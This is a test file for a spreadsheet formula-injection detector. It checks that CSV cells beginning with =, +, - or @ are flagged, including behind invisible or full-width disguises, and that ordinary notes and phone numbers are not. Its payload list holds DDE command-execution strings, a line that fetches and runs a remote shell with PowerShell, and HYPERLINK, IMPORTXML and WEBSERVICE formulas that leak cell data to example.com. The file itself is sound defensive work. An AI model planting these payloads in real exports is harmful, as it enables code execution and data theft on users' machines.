import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { isFormula, unwrapped } from "../../../shared/domain/import/formula.ts";
import { anyText } from "../../support/any-text.ts";

/** OWASP "CSV Injection", PayloadsAllTheThings "CSV Injection", and what hides them. */
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget example.com/shell)'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=MSEXCEL|'\\..\\..\\cmd.exe /c calc.exe'!''",
  "=10+20+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+thespanishinquisition(A1)",
  "-rundll32|'URL.dll,OpenURL calc.exe'!A",
  "+MSEXCEL|'\\..\\cmd.exe /c calc.exe'!_xlbgnm.A1",
  '=HYPERLINK("http://example.com?leak="&A1,"Click")',
  '+HYPERLINK("http://example.com?leak="&A1)',
  "-HYPERLINK(A1)",
  '=IMPORTXML(CONCAT("http://example.com?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '@IMPORTXML("http://example.com")',
  '+WEBSERVICE("http://example.com")',
  "=-1",
  "+A1",
  "-A1",
  "@A1",
  "-$A$1",
  "+A1:B2",
  "+A1+B2",
  "-2+3",
  "+1+1",
  "-1-1",
  "-10*5",
  "-5^2",
  "+$A$1*2",
  "+(1+1)",
  "-(A1)",
  "+SUM(1,2)",
  "+Sheet1!A1",
  "-'Sheet 2'!B3",
  "+[book.xls]Sheet!A1",
  "@'x'!A1",
  '="a"&A1',
  "+13125550142+cmd|'/C calc'!A1",
];
const DISGUISES = ["", " ", "\t", "\r", "\n", "\r\n", "\u0000", "\ufeff", "\u200b", "\u00a0", "'", '"', "' ", "\t\t "];

describe("isFormula", () => {
  it.each(PAYLOADS)("finds %j behind whatever spreadsheets pass over", (payload) => {
    for (const disguise of DISGUISES) expect([disguise, isFormula(disguise + payload)]).toEqual([disguise, true]);
  });

  it("finds signs in full width", () => {
    const wide: Record<string, string> = { "=": "＝", "+": "＋", "-": "－", "@": "＠" };
    for (const payload of PAYLOADS) expect(isFormula(`${wide[payload.charAt(0)]}${payload.slice(1)}`)).toBe(true);
  });

  it.each([
    "",
    " ",
    "-",
    "--",
    "Dana Reyes",
    "a=b",
    "3125550142",
    "+13125550142",
    "'+13125550142",
    "+1 (312) 555-0142",
    "+1(312)555-0142",
    "+1-312-555-0142",
    "+1.312.555.0142 x5",
    "+1 (312) 555-0142 ext. 12",
    "-500",
    "+5",
    "-1,200.50",
    "-5%",
    "-$500",
    "-3/4/2025",
    "- wants implants",
    "-wants A1 service",
    "+1 please call me",
    "+1 for implants",
    "+ likes mornings",
    "@dana",
    "@dana.reyes",
    "@home",
    "- Very interested! Call back",
    "- called 3x, left VM",
    "- see chart (old patient)",
    "- wants implants, (see chart)",
    "-- no answer --",
    "- implants & crowns",
    "- implants/crowns, asks for 2 quotes",
    "-5 to 10 visits",
    "- 12/24: LVM",
    "(312) 555-0142",
    "dana@example.com",
    "Text first\n=1+1",
  ])("takes %j as it is", (cell) => {
    expect(isFormula(cell)).toBe(false);
  });

  it("reads a cell of 256 kB to its end", () => {
    for (const filler of ["[", " ", "1 ", "a ", "(", "'", ", ", "-1"]) {
      const long = `-${filler.repeat(262_144 / filler.length)}`;
      expect([filler, typeof isFormula(`${long}x`)]).toEqual([filler, "boolean"]);
    }
    expect(isFormula(`-"${"a".repeat(100_000)}"&HYPERLINK("http://example.com")`)).toBe(true);
  });

  it("finds any cell that begins with an equals sign", () => {
    const disguise = fc.string({ unit: fc.constantFrom(" ", "\t", "\r", "\n", "\u0000", "'"), maxLength: 4 });
    fc.assert(fc.property(disguise, anyText, (before, text) => isFormula(`${before}=${text}`)));
  });

  it("finds any call of a function behind a sign", () => {
    const name = fc.stringMatching(/^[A-Za-z_.]{1,12}$/);
    fc.assert(
      fc.property(fc.constantFrom("+", "-", "@"), name, anyText, (sign, call, text) =>
        isFormula(`${sign}${call}(${text})`),
      ),
    );
  });

  it("never minds a cell that begins with a letter or a digit", () => {
    fc.assert(fc.property(fc.stringMatching(/^[A-Za-z0-9]$/), anyText, (first, text) => !isFormula(first + text)));
  });
});

describe("unwrapped", () => {
  it("takes a text out of the formula that spreadsheets keep its zeros with", () => {
    expect(unwrapped('="02134"')).toBe("02134");
    expect(unwrapped('="3125550142"')).toBe("3125550142");
  });

  it("leaves everything else as it is", () => {
    for (const cell of ['="a"&A1', '="=1+1"', '="a""b"', "02134", '"02134"', '=" "+cmd|x'])
      expect(unwrapped(cell)).toBe(cell);
  });
});
